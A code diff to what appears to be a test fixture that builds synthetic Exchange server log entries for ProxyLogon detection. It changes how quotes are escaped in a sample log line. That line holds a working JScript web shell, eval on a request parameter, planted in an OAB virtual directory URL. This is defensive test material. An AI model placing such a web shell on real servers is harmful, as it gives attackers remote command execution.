@@ -32,12 +32,15 @@ export function proxyLogonResetVdir(time: number): Record<string, string> {
   };
 }
 
-/** ECP server log: Set-OabVirtualDirectory with a script tag in ExternalUrl. */
+/**
+ * ECP server log: Set-OabVirtualDirectory with a script tag in ExternalUrl. The value is the
+ * decoded field; written as CSV its quotes double, as in real logs (`runat=""server""`).
+ */
 export function ecpOabWebShell(time: number): Record<string, string> {
   return {
     TimeStamp: new Date(time).toISOString(),
     EventData:
-      'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>\'\'.Identity=\'\'OAB (Default Web Site)\'\'',
+      'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\'\'.Identity=\'\'OAB (Default Web Site)\'\'',
   };
 }
 
